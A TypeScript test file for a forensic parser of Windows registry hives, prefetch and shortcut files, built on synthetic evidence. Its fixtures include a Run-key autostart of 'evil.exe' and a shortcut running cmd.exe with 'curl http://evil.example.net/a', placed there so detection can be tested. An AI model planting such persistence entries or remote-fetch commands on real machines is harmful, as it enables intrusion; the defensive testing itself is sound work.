import { describe, expect, it } from 'vitest'
import { fuzz, linesOf } from '../../../../test/harness/evidence/fuzz.ts'
import {
  hasSamples,
  hasTool,
  printed,
  sample,
  samplePath,
  whySkipped,
} from '../../../../test/harness/evidence/samples.ts'
import {
  hive,
  packedPrefetch,
  prefetchFile,
  shortcutFile,
  text,
} from '../../../../test/harness/evidence/windows-files.ts'
import { formats } from '../formats.ts'
import { budgetOf } from '../reader/budget.ts'
import { unpackXpress } from './prefetch/xpress.ts'
import { prefetch } from './prefetch/prefetch.ts'
import { registry } from './registry/registry.ts'
import { shortcut } from './shortcut/shortcut.ts'

const read = async (bytes: Buffer) => {
  const lines = await linesOf(formats, bytes)
  return {
    lines,
    facts: Object.fromEntries(
      lines.flatMap((line) => (line.kind === 'summary' ? line.facts : [])).map(({ name, value }) => [name, value]),
    ),
    rows: (table: string) => lines.flatMap((line) => (line.kind === 'row' && line.table === table ? [line.cells] : [])),
    events: lines.flatMap((line) => (line.kind === 'event' ? [`${line.time} ${line.what}`] : [])),
    seen: lines.flatMap((line) => (line.kind === 'observable' ? [`${line.type} ${line.value}`] : [])),
    warnings: lines.flatMap((line) => (line.kind === 'warning' ? [line.detail] : [])),
    refused: lines.find((line) => line.kind === 'refused'),
  }
}

const u32 = (value: number) => Buffer.from([value & 255, (value >> 8) & 255, (value >> 16) & 255, value >>> 24])
const nested =
  (...names: string[]) =>
  (part: Parameters<typeof hive>[0]) =>
    names.reduceRight((keys, name) => ({ name, keys: [keys] }), part)
const sound = hive({
  name: 'CMI-CreateHive',
  keys: [
    nested(
      'Software',
      'Microsoft',
      'Windows',
      'CurrentVersion',
    )({
      name: 'Run',
      written: '2026-03-02T11:00:00Z',
      values: [
        ['Updater', 1, text('"C:\\Users\\Public\\evil.exe" /s')],
        ['Count', 4, u32(7)],
        ['List', 7, text('a\0b\0')],
      ],
    }),
    nested(
      'Software',
      'Explorer',
    )({
      name: 'RecentDocs',
      values: [
        ['0', 3, text('secret.docx')],
        ['1', 3, text('old.txt')],
        ['MRUListEx', 3, Buffer.concat([u32(0), u32(1), u32(0xffffffff)])],
      ],
    }),
    nested(
      'Software',
      'Internet Explorer',
    )({ name: 'TypedURLs', values: [['url1', 1, text('http://evil.example.net/')]] }),
    nested(
      'ControlSet001',
      'Enum',
      'USBSTOR',
      'Disk&Ven_X',
    )({ name: '0123&0', values: [['FriendlyName', 1, text('X Stick')]] }),
  ],
})

describe('a registry hive', () => {
  it('is read key by key, with what tells of what was done', async () => {
    const { facts, rows, events, seen, warnings, refused } = await read(sound)
    expect([warnings, refused]).toEqual([[], undefined])
    expect(facts).toMatchObject({ name: 'NTUSER.DAT', 'last written': '2026-03-01T10:00:00.000Z', version: '1.5' })
    expect(rows('keys').map((row) => row['key'])).toEqual(
      expect.arrayContaining(['', 'Software', 'Software\\Microsoft\\Windows\\CurrentVersion\\Run']),
    )
    expect(rows('values').filter((row) => String(row['key']).endsWith('Run'))).toMatchObject([
      { name: 'Updater', type: 'string', value: '"C:\\Users\\Public\\evil.exe" /s' },
      { name: 'Count', type: 'number', value: '7' },
      { name: 'List', type: 'strings', value: 'a\nb' },
    ])
    expect(events).toEqual(
      expect.arrayContaining([
        '2026-03-02T11:00:00.000Z Starts by itself (Run): Updater = "C:\\Users\\Public\\evil.exe" /s',
        '2026-03-01T10:00:00.000Z Recent document: secret.docx',
        '2026-03-01T10:00:00.000Z Typed: http://evil.example.net/',
        '2026-03-01T10:00:00.000Z USB storage X Stick, serial 0123&0',
      ]),
    )
    expect(seen).toEqual(
      expect.arrayContaining([
        'filename evil.exe',
        'filename secret.docx',
        'filename old.txt',
        'url http://evil.example.net/',
        'other 0123&0',
      ]),
    )
  })

  it('says that its logs were not applied, and goes round no circle', async () => {
    const dirty = Buffer.from(sound)
    dirty.writeUInt32LE(8, 8)
    expect((await read(dirty)).warnings).toEqual([
      expect.stringContaining('transaction logs, which hold what is missing, were not applied'),
      'The checksum of its header is wrong.',
    ])
    const looped = hive({ name: 'root', keys: [{ name: 'a' }, { name: 'b' }] })
    const list = looped.indexOf('lf\x02\0', 4096)
    looped.copyWithin(list + 12, list + 4, list + 8)
    expect((await read(looped)).warnings).toEqual(['A key below "" is listed twice.'])
    expect((await read(sound.subarray(0, 300))).refused).toMatchObject({ reason: 'damaged' })
    const cut = await read(sound.subarray(0, 4096 + 300))
    expect(cut.warnings.join()).toContain('The file ends within')
  })
})

const program = prefetchFile(
  'EVIL.EXE',
  ['2026-03-01T10:00:00Z', '2026-02-01T10:00:00Z'],
  ['\\VOL\\A.DLL', '\\VOL\\B.DLL'],
)

describe('a prefetch file', () => {
  it.each([
    ['as it is', program],
    ['packed', packedPrefetch(program)],
  ])('tells what ran, when and with what: %s', async (_, bytes) => {
    const { facts, rows, events, warnings } = await read(bytes)
    expect(warnings).toEqual([])
    expect(facts).toMatchObject({
      program: 'EVIL.EXE',
      'run count': '2',
      'last run': '2026-03-01T10:00:00.000Z',
      hash: '0000ABCD',
    })
    expect(events).toEqual([
      '2026-03-01T10:00:00.000Z EVIL.EXE ran (2 times in all)',
      '2026-02-01T10:00:00.000Z EVIL.EXE ran (2 times in all)',
    ])
    expect(rows('files').map((row) => row['path'])).toEqual(['\\VOL\\A.DLL', '\\VOL\\B.DLL'])
    expect(rows('volumes')).toMatchObject([{ name: '\\VOL', serial: '0000CAFE' }])
  })

  it('is unpacked as [MS-XCA] 3.2 shows', () => {
    const table = Buffer.alloc(256)
    Buffer.from('5055555555555555555555454404', 'hex').copy(table, 48)
    table[128] = 4
    const packed = Buffer.concat([table, Buffer.from('d8523ed794115be9195ff9d67cdf8d0400000000', 'hex')])
    expect(unpackXpress(packed, 26, budgetOf()).toString()).toBe('abcdefghijklmnopqrstuvwxyz')
  })

  it('is refused where it says what cannot be', async () => {
    const bomb = packedPrefetch(program)
    bomb.writeUInt32LE(0xfffffff0, 4)
    expect((await read(bomb)).refused).toMatchObject({ reason: 'too_much' })
    const other = Buffer.from(program)
    other.writeUInt32LE(99, 0)
    expect((await read(other)).refused).toMatchObject({ reason: 'unsupported' })
    expect((await read(packedPrefetch(program).subarray(0, 300))).refused).toMatchObject({ reason: 'damaged' })
  })
})

const link = shortcutFile({
  path: 'C:\\Windows\\System32\\cmd.exe',
  argument: '/c curl http://evil.example.net/a',
  machine: 'desk-7',
})

describe('a shortcut', () => {
  it('tells its target, arguments, times and machine', async () => {
    const { facts, events, seen, warnings } = await read(link)
    expect(warnings).toEqual([])
    expect(facts).toMatchObject({
      target: 'C:\\Windows\\System32\\cmd.exe',
      arguments: '/c curl http://evil.example.net/a',
      size: '1234',
      window: 'minimised',
      volume: 'fixed OS',
      'volume serial': 'CAFE0001',
      machine: 'desk-7',
      'network card': '00:11:22:33:44:55',
    })
    expect(events).toEqual([
      '2026-02-01T00:00:00.000Z C:\\Windows\\System32\\cmd.exe was created, as its shortcut says',
    ])
    expect(seen).toEqual(['filename cmd.exe', 'other desk-7', 'mac 00:11:22:33:44:55', 'url http://evil.example.net/a'])
  })

  it('tells what follows its end, and what is broken', async () => {
    expect((await read(Buffer.concat([link, Buffer.from('MZ hidden')]))).warnings).toEqual([
      '9 bytes follow its end: something may be hidden in it.',
    ])
    expect((await read(link.subarray(0, 100))).warnings).toEqual([
      expect.stringContaining('A part of it could not be read.'),
    ])
    expect((await read(link.subarray(0, 40))).refused).toMatchObject({ reason: 'damaged' })
  })
})

it.each([
  [registry, [sound]],
  [prefetch, [program, packedPrefetch(program)]],
  [shortcut, [link]],
] as const)('$name bears mutated files', async (format, samples) => {
  const { faults, rounds, slowestMs } = await fuzz(format, samples, { patienceMs: 2000 })
  expect(faults).toEqual([])
  expect(rounds).toBeGreaterThan(50)
  expect(slowestMs).toBeLessThan(1500)
})

describe.skipIf(!hasSamples)(`real files of Windows${whySkipped()}`, () => {
  it('are read as others read them', async () => {
    const cmd = await read(sample('windows/CMD.EXE-087B4001.pf'))
    expect(cmd.facts).toMatchObject({
      program: 'CMD.EXE',
      hash: '087B4001',
      'run count': '2',
      'last run': '2013-03-10T10:11:49.281250Z',
    })
    const ping = await read(sample('windows/PING.EXE-B29F6629.pf'))
    expect(ping.facts).toMatchObject({
      program: 'PING.EXE',
      hash: 'B29F6629',
      'run count': '14',
      'last run': '2012-04-06T19:00:55.932955Z',
    })
    expect([cmd.refused, ping.refused, cmd.warnings, ping.warnings]).toEqual([undefined, undefined, [], []])
  })

  it('hold every key of a hive that is in use', async () => {
    const bytes = sample('windows/NTUSER.DAT')
    const { rows, warnings, refused, seen } = await read(bytes)
    expect([warnings, refused]).toEqual([[], undefined])
    expect(rows('keys')).toHaveLength(keysInUse(bytes))
    expect(seen).toContain('filename Very secret document.txt')
  })

  /** By going through all cells of all bins, whatever leads to them. */
  function keysInUse(bytes: Buffer): number {
    let found = 0
    for (
      let bin = 4096;
      bin < bytes.length && bytes.toString('latin1', bin, bin + 4) === 'hbin';
      bin += bytes.readUInt32LE(bin + 8)
    )
      for (let at = bin + 32; at < bin + bytes.readUInt32LE(bin + 8); at += Math.abs(bytes.readInt32LE(at)))
        if (bytes.readInt32LE(at) < 0 && bytes.toString('latin1', at + 4, at + 6) === 'nk') found++
    return found
  }

  it.skipIf(!hasTool('exiftool'))('tell of a shortcut what exiftool does', async () => {
    const path = 'windows/NeroInfoTool.lnk'
    const [told] = JSON.parse(printed('exiftool', '-json', samplePath(path))) as Record<string, string>[]
    const { facts } = await read(sample(path))
    expect(facts).toMatchObject({
      target: told!['LocalBasePath'],
      machine: told!['MachineID'],
      'volume serial': told!['DriveSerialNumber']?.replace('-', ''),
      'working folder': told!['WorkingDirectory'],
      size: String(told!['TargetFileSize']),
    })
  })
})
